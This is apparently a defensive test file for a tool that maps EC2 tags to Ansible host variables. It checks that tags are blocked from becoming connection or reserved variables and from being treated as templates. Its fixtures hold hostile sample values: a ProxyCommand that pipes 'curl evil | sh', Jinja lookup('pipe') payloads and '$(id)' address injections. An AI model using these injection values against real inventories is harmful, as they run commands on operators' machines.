/**
 * Registry attributes (EC2 tags, static-file attributes) as Ansible hostvars. Tagging an
 * instance is a much weaker permission than running Ansible, so a tag must never become an
 * `ansible_*` connection variable (`ansible_ssh_common_args: -o ProxyCommand=…` runs a command
 * on the operator's machine), a magic or reserved name, or a value Ansible would template
 * (`{{ lookup('pipe', …) }}` runs a command too, on ansible-core 2.14 checked by hand). Tags are
 * exposed only when `inventory.tag_hostvars` allows them, under `inventory.tag_hostvar_prefix`.
 */
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config/load.ts';
import {
  ansibleHost,
  ansibleInventory,
  compileHostvarPolicy,
  type HostvarNotes,
  hostVars,
} from '../../src/generate/inventory.ts';
import type { GenerationModel, InstanceModel } from '../../src/generate/model.ts';

const hostile: Record<string, string> = {
  env: 'prod',
  'team-name': 'payments',
  Owner: 'alice',
  secret_token: 's3cr3t',
  ansible_ssh_common_args: '-o ProxyCommand="sh -c \'curl evil | sh\'"',
  ansible_user: 'root',
  Ansible_Host: '203.0.113.9',
  ansible_become_exe: 'sh -c id',
  __ansible_vault: 'x',
  hostvars: 'x',
  inventory_hostname: 'x',
  omit: 'x',
  environment: 'x',
  class: 'x',
  None: 'x',
  '9lives': 'x',
  role: 'db',
  'aws:autoscaling:groupName': 'web-asg',
  'dup-a': '1',
  dup_a: '2',
};

const instance: InstanceModel = {
  instanceId: 'i-1',
  role: 'web',
  version: '1.0',
  slot: 0,
  privateIp: '10.0.0.1',
  launchedAt: 0,
  attributes: hostile,
};
const model: GenerationModel = { roles: [], measurements: [], instances: [instance] };

const policy = (inventory: Record<string, unknown> = {}) =>
  compileHostvarPolicy(parseConfig({ inventory }).config.inventory);

const own = ['instance_id', 'role', 'version', 'slot', 'slot_alias', 'launched_at'];

describe('tag hostvars › defaults', () => {
  it('exposes no tag at all: only fleetline’s own vars and ansible_host', () => {
    const vars = hostVars(instance, policy());
    expect(Object.keys(vars).sort()).toEqual([...own, 'ansible_host', 'private_ip'].sort());
    expect(vars.ansible_host).toBe('10.0.0.1');
    expect(vars.role).toBe('web');
    expect(JSON.stringify(ansibleInventory(model))).not.toContain('s3cr3t');
  });

  it('the defaults are what the functions use when given no policy', () => {
    expect(ansibleInventory(model)).toEqual(ansibleInventory(model, policy()));
    expect(ansibleHost(model, 'i-1')).toEqual(hostVars(instance, policy()));
  });
});

describe('tag hostvars › allow-list under the prefix', () => {
  it('exposes exactly the allowed keys and globs, prefixed and made identifiers', () => {
    const vars = hostVars(instance, policy({ tag_hostvars: ['env', 'team*', 'aws:*'] }));
    expect(vars).toMatchObject({
      tag_env: 'prod',
      tag_team_name: 'payments',
      tag_aws_autoscaling_groupName: 'web-asg',
    });
    expect(vars).not.toHaveProperty('tag_Owner');
    expect(vars).not.toHaveProperty('tag_secret_token');
    expect(vars).not.toHaveProperty('env');
  });

  it('`?` matches one character, and matching is case-sensitive', () => {
    const vars = hostVars(instance, policy({ tag_hostvars: ['en?', 'owner'] }));
    expect(vars.tag_env).toBe('prod');
    expect(vars).not.toHaveProperty('tag_Owner');
  });

  it('even with every tag allowed, no tag becomes an ansible_* or reserved variable', () => {
    const vars = hostVars(instance, policy({ tag_hostvars: ['*'] }));
    for (const k of Object.keys(vars))
      expect(
        own.includes(k) || k.startsWith('tag_') || /^(ansible_host|private_ip)$/.test(k),
        k,
      ).toBe(true);
    expect(vars.tag_ansible_ssh_common_args).toBe(hostile.ansible_ssh_common_args);
    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
    expect(vars).not.toHaveProperty('ansible_user');
    expect(vars.role).toBe('web');
    expect(vars.tag_role).toBe('db');
  });
});

describe('tag hostvars › without a prefix', () => {
  const notes: HostvarNotes = { refused: [], inert: 0, hosts: [] };
  const vars = hostVars(instance, policy({ tag_hostvars: ['*'], tag_hostvar_prefix: '' }), notes);
  const refused = Object.fromEntries(notes.refused.map((r) => [r.key, r.reason]));

  it('refuses ansible_* (any case), __ansible markers, magic and reserved names', () => {
    for (const k of [
      'ansible_ssh_common_args',
      'ansible_user',
      'Ansible_Host',
      'ansible_become_exe',
      '__ansible_vault',
      'hostvars',
      'inventory_hostname',
      'omit',
      'environment',
    ]) {
      expect(vars, k).not.toHaveProperty(k);
      expect(refused[k], k).toBe('reserved');
    }
    expect(vars.ansible_host).toBe('10.0.0.1');
  });

  it('refuses Python keywords and names that are not identifiers', () => {
    expect(refused.class).toBe('reserved');
    expect(refused.None).toBe('reserved');
    expect(refused['9lives']).toBe('invalid_name');
    expect(vars).not.toHaveProperty('9lives');
  });

  it('never overrides fleetline’s own vars, and refuses tags that would share a name', () => {
    expect(vars.role).toBe('web');
    expect(refused.role).toBe('collision');
    expect(refused['dup-a']).toBe('collision');
    expect(refused.dup_a).toBe('collision');
    expect(vars).not.toHaveProperty('dup_a');
  });

  it('keeps the harmless ones', () => {
    expect(vars).toMatchObject({
      env: 'prod',
      Owner: 'alice',
      aws_autoscaling_groupName: 'web-asg',
    });
    expect(notes.refused.every((r) => r.instanceId === 'i-1')).toBe(true);
  });
});

describe('values Ansible would template', () => {
  const jinja = [
    "{{ lookup('pipe', 'id') }}",
    "{% for x in lookup('pipe','id') %}{% endfor %}",
    'a {# comment #} b',
    "#jinja2:variable_start_string:'[['\n[[ lookup('pipe','id') ]]",
  ];

  it('are marked unsafe (literal text to Ansible), in tags and in fleetline’s own vars', () => {
    for (const v of jinja) {
      const notes: HostvarNotes = { refused: [], inert: 0, hosts: [] };
      const vars = hostVars(
        { ...instance, version: v, attributes: { env: v } },
        policy({ tag_hostvars: ['env'] }),
        notes,
      );
      expect(vars.tag_env, v).toEqual({ __ansible_unsafe: v });
      expect(vars.version, v).toEqual({ __ansible_unsafe: v });
      expect(notes.inert).toBe(2);
    }
  });

  it('plain values stay plain strings', () => {
    const vars = hostVars(instance, policy({ tag_hostvars: ['env'] }));
    expect(vars.tag_env).toBe('prod');
    expect(vars.version).toBe('1.0');
  });
});

describe('ansible_host', () => {
  it('is set only from an address that is a plain IP or DNS name', () => {
    for (const bad of ['-oProxyCommand=sh', '10.0.0.1 -oX', '$(id)', '10.0.0.1\nx'])
      expect(hostVars({ ...instance, privateIp: bad }, policy()), bad).not.toHaveProperty(
        'ansible_host',
      );
    expect(
      hostVars({ ...instance, privateIp: undefined, privateDns: 'ip-10-0-0-1.internal' }, policy())
        .ansible_host,
    ).toBe('ip-10-0-0-1.internal');
  });
});
